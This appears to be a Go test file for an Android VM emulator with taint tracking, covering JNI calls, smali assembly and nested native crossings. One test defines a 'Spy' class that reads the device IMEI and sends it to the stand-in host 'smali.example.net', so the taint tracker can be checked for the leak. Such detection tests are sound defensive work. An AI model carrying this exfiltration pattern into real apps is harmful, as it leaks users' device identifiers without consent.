package dvm

import (
	"reflect"
	"strings"
	"testing"

	"repro/internal/dex"
	"repro/internal/taint"
)

// jniCoverageLib exercises the remaining JNI families: typed calls with the
// V and A variants, field get/set including wide, array regions, and refs.
const jniCoverageLib = `
; int callIntA(JNIEnv*, jclass): CallStaticIntMethodA with a jvalue array
Java_callIntA:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	LDR R2, =m_twice
	LDR R3, =sig_twice
	BL GetStaticMethodID
	MOV R6, R0
	; jvalue array: one 8-byte slot holding 21
	LDR R12, =jvals
	MOV R2, #21
	STR R2, [R12]
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOV R3, R12
	BL CallStaticIntMethodA
	POP {R4, R5, R6, PC}

; int callIntV(JNIEnv*, jclass): CallStaticIntMethodV with a word buffer
Java_callIntV:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	LDR R2, =m_twice
	LDR R3, =sig_twice
	BL GetStaticMethodID
	MOV R6, R0
	LDR R12, =jvals
	MOV R2, #5
	STR R2, [R12]
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOV R3, R12
	BL CallStaticIntMethodV
	POP {R4, R5, R6, PC}

; int fieldRoundTrip(JNIEnv*, jclass self): SetStaticIntField then Get
Java_fieldRoundTrip:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R5, R1
	MOV R1, R5
	LDR R2, =f_slot
	LDR R3, =sig_int
	BL GetStaticFieldID
	MOV R6, R0
	; SetStaticIntField(env, cls, fid, 777)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOVW R3, #777
	BL SetStaticIntField
	; GetStaticIntField(env, cls, fid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL GetStaticIntField
	POP {R4, R5, R6, PC}

; int arrayRegion(JNIEnv*, jclass, jintArray): read region, sum two elems
Java_arrayRegion:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R5, R2          ; array ref
	; GetIntArrayRegion(env, arr, 0, 2, buf)
	MOV R1, R5
	MOV R2, #0
	MOV R3, #2
	LDR R12, =jvals
	SUB SP, SP, #4
	STR R12, [SP]
	BL GetIntArrayRegion
	ADD SP, SP, #4
	LDR R0, =jvals
	LDR R1, [R0]
	LDR R2, [R0, #4]
	ADD R0, R1, R2
	; SetIntArrayRegion(env, arr, 0, 1, buf) writes the sum back
	LDR R12, =jvals
	STR R0, [R12]
	PUSH {R0}
	MOV R0, R4
	MOV R1, R5
	MOV R2, #0
	MOV R3, #1
	SUB SP, SP, #4
	STR R12, [SP]
	BL SetIntArrayRegion
	ADD SP, SP, #4
	POP {R0}
	POP {R4, R5, PC}

; int refs(JNIEnv*, jclass): NewStringUTF -> NewGlobalRef -> DeleteLocalRef,
; return global ref
Java_refs:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	LDR R1, =str_lit
	BL NewStringUTF
	MOV R5, R0
	MOV R0, R4
	MOV R1, R5
	BL NewGlobalRef
	MOV R6, R0
	MOV R0, R4
	MOV R1, R5
	BL DeleteLocalRef
	MOV R0, R6
	POP {R4, R5, R6, PC}

cls_name:
	.asciz "com/test/Cov"
m_twice:
	.asciz "twice"
sig_twice:
	.asciz "(I)I"
f_slot:
	.asciz "slot"
sig_int:
	.asciz "I"
str_lit:
	.asciz "kept-alive"
	.align 4
jvals:
	.space 32
`

func setupCoverageApp(t *testing.T, vm *VM) {
	t.Helper()
	prog, err := vm.LoadNativeLib("libcov.so", jniCoverageLib)
	if err != nil {
		t.Fatal(err)
	}
	cb := dex.NewClass("Lcom/test/Cov;")
	cb.StaticField("slot", false)
	cb.Method("twice", "II", dex.AccStatic, 1).
		Bin(dex.Add, 0, 1, 1).
		Return(0).
		Done()
	for _, m := range []struct{ name, shorty string }{
		{"callIntA", "I"}, {"callIntV", "I"}, {"fieldRoundTrip", "I"},
		{"arrayRegion", "IL"}, {"refs", "L"},
	} {
		cb.NativeMethod(m.name, m.shorty, dex.AccStatic, 0)
	}
	vm.RegisterClass(cb.Build())
	for _, m := range []string{"callIntA", "callIntV", "fieldRoundTrip", "arrayRegion", "refs"} {
		if err := vm.BindNative("Lcom/test/Cov;", m, prog, "Java_"+m); err != nil {
			t.Fatal(err)
		}
	}
}

func TestJNICallMethodAVariant(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "callIntA", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("CallStaticIntMethodA(twice, 21) = %d, want 42", ret)
	}
}

func TestJNICallMethodVVariant(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "callIntV", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 10 {
		t.Errorf("CallStaticIntMethodV(twice, 5) = %d, want 10", ret)
	}
}

func TestJNIStaticFieldRoundTrip(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "fieldRoundTrip", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 777 {
		t.Errorf("field round trip = %d, want 777", ret)
	}
	cls, _ := vm.Class("Lcom/test/Cov;")
	if cls.StaticData[0] != 777 {
		t.Errorf("static slot = %d", cls.StaticData[0])
	}
}

func TestJNIArrayRegions(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	arr := vm.NewArray('I', 4)
	arr.setElem(0, 30)
	arr.setElem(1, 12)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "arrayRegion", []uint32{arr.Addr}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if ret != 42 {
		t.Errorf("arrayRegion sum = %d, want 42", ret)
	}
	if arr.elem(0) != 42 {
		t.Errorf("SetIntArrayRegion wrote %d, want 42", arr.elem(0))
	}
}

func TestJNIGlobalRefSurvivesLocalFrame(t *testing.T) {
	vm := newVM(t)
	setupCoverageApp(t, vm)
	ret, _, _, err := vm.InvokeByName("Lcom/test/Cov;", "refs", nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	o, ok := vm.ObjectAt(uint32(ret))
	if !ok || o.Str != "kept-alive" {
		t.Fatalf("global-ref'd string lost: %#x -> %+v", ret, o)
	}
	// The local frame was popped after the JNI call; the object survives a
	// GC because the global ref roots it.
	vm.RunGC()
	if got, ok := vm.ObjectAt(o.Addr); !ok || got.Str != "kept-alive" {
		t.Error("object collected despite global ref")
	}
}

// TestSmaliEndToEnd: a class written in the smali dialect runs on the VM and
// leaks through the framework sink, tying dex.AssembleClass to the stack.
func TestSmaliEndToEnd(t *testing.T) {
	vm := newVM(t)
	var leaks []JavaLeak
	vm.JavaLeakFn = func(l JavaLeak) { leaks = append(leaks, l) }

	cls, err := dex.AssembleClass(`
.class Lcom/smali/Spy;
.method static run()V
    .locals 2
    invoke-static {}, Landroid/telephony/TelephonyManager;->getDeviceId()L
    move-result v0
    const-string v1, "smali.example.net"
    invoke-static {v1, v0}, Landroid/net/Network;->send(LL)V
    return-void
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	_, _, thrown, err := vm.InvokeByName("Lcom/smali/Spy;", "run", nil, nil)
	if err != nil || thrown != nil {
		t.Fatalf("run: err=%v thrown=%v", err, thrown)
	}
	if len(leaks) != 1 || !leaks[0].Tag.Has(taint.IMEI) {
		t.Fatalf("leaks = %v", leaks)
	}
	if leaks[0].Dest != "smali.example.net" {
		t.Errorf("dest = %q", leaks[0].Dest)
	}
}

// TestSmaliExceptionFlow: smali try/catch with a divide-by-zero.
func TestSmaliExceptionFlow(t *testing.T) {
	vm := newVM(t)
	cls, err := dex.AssembleClass(`
.class Lcom/smali/Catcher;
.method static safeDiv(II)I
    .locals 2
:try_start
    div-int v0, v2, v3
:try_end
    return v0
:handler
    move-exception v1
    const v0, -1
    return v0
    .catch Ljava/lang/ArithmeticException; :try_start :try_end :handler
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	ret, _ := invoke(t, vm, "Lcom/smali/Catcher;", "safeDiv", 10, 2)
	if int32(ret) != 5 {
		t.Errorf("safeDiv(10,2) = %d", int32(ret))
	}
	ret, _ = invoke(t, vm, "Lcom/smali/Catcher;", "safeDiv", 10, 0)
	if int32(ret) != -1 {
		t.Errorf("safeDiv(10,0) = %d, want -1", int32(ret))
	}
}

// TestLongArithmetic covers the BinOpWide/IntToLong/CmpLong paths.
func TestLongArithmetic(t *testing.T) {
	vm := newVM(t)
	cls, err := dex.AssembleClass(`
.class Lcom/smali/Longs;
.method static big(I)I
    .locals 6
    int-to-long v0, v6
    const-wide v2, 1000000
    mul-long v0, v0, v2
    const-wide v2, 1000000000000
    cmp-long v4, v0, v2
    return v4
.end method
`)
	if err != nil {
		t.Fatal(err)
	}
	vm.RegisterClass(cls)
	ret, _ := invoke(t, vm, "Lcom/smali/Longs;", "big", 2000000)
	if int32(ret) != 1 { // 2e12 > 1e12
		t.Errorf("cmp-long = %d, want 1", int32(ret))
	}
	ret, _ = invoke(t, vm, "Lcom/smali/Longs;", "big", 1000000)
	if int32(ret) != 0 { // 1e12 == 1e12
		t.Errorf("cmp-long = %d, want 0", int32(ret))
	}
}

// nestLib is a native→Java→native crossing: outer calls the static Java
// method mid(20), which crosses into inner(x) = x+1; outer adds 100.
const nestLib = `
Java_outer:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R5, R1
	LDR R2, =m_mid
	LDR R3, =sig_mid
	BL GetStaticMethodID
	MOV R6, R0
	LDR R12, =nest_args
	MOV R2, #20
	STR R2, [R12]
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	MOV R3, R12
	BL CallStaticIntMethodA
	ADD R0, R0, #100
	POP {R4, R5, R6, PC}

Java_inner:
	ADD R0, R2, #1
	BX LR

m_mid:
	.asciz "mid"
sig_mid:
	.asciz "(I)I"
	.align 4
nest_args:
	.space 8
`

// TestFusedNestedCrossingsOwnTheirCallCtx: the fused bridge pools its
// CallCtx by crossing depth. In a nested native→Java→native crossing each
// depth's hooks see their own context from Before through After, and every
// pooled context is zeroed once the crossings return.
func TestFusedNestedCrossingsOwnTheirCallCtx(t *testing.T) {
	vm := newVM(t)
	const cls = "Lcom/test/Nest;"
	prog, err := vm.LoadNativeLib("libnest.so", nestLib)
	if err != nil {
		t.Fatal(err)
	}
	cb := dex.NewClass(cls)
	cb.NativeMethod("outer", "I", dex.AccStatic, 0)
	cb.NativeMethod("inner", "II", dex.AccStatic, 0)
	cb.Method("mid", "II", dex.AccStatic, 1).
		InvokeStatic(cls, "inner", "II", 1).
		MoveResult(0).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	for _, name := range []string{"outer", "inner"} {
		if err := vm.BindNative(cls, name, prog, "Java_"+name); err != nil {
			t.Fatal(err)
		}
		c, _ := vm.Class(cls)
		m, _ := c.Method(name)
		vm.SeedFusion(m)
	}
	vm.FuseNative = true

	type entry struct {
		ctx  *CallCtx
		name string
	}
	var stack []entry
	var order []string
	vm.HookInternal("dvmCallJNIMethod", InternalHook{
		Before: func(ctx *CallCtx) {
			stack = append(stack, entry{ctx, ctx.Method.Name})
			order = append(order, "enter "+ctx.Method.Name)
		},
		After: func(ctx *CallCtx) {
			top := stack[len(stack)-1]
			stack = stack[:len(stack)-1]
			if ctx != top.ctx || ctx.Method == nil || ctx.Method.Name != top.name {
				t.Errorf("After for %s got a context for %v", top.name, ctx.Method)
			}
			for _, e := range stack {
				if e.ctx == ctx {
					t.Errorf("%s shares its CallCtx with an enclosing crossing", top.name)
				}
			}
			order = append(order, "exit "+ctx.Method.Name)
		},
	})

	for round := 0; round < 2; round++ {
		order = order[:0]
		ret, _ := invoke(t, vm, cls, "outer")
		if ret != 121 {
			t.Fatalf("outer() = %d, want 121", ret)
		}
		if got := strings.Join(order, ","); got != "enter outer,enter inner,exit inner,exit outer" {
			t.Errorf("hook order %s", got)
		}
	}
	if vm.JavaFusedCalls != 4 {
		t.Errorf("JavaFusedCalls = %d, want every crossing fused", vm.JavaFusedCalls)
	}
	if vm.ctxDepth != 0 || len(vm.callCtxs) != 2 {
		t.Errorf("ctxDepth = %d with %d pooled contexts, want 0 and 2", vm.ctxDepth, len(vm.callCtxs))
	}
	for i, ctx := range vm.callCtxs {
		if !reflect.ValueOf(*ctx).IsZero() {
			t.Errorf("pooled CallCtx %d not zeroed: %+v", i, *ctx)
		}
	}
}
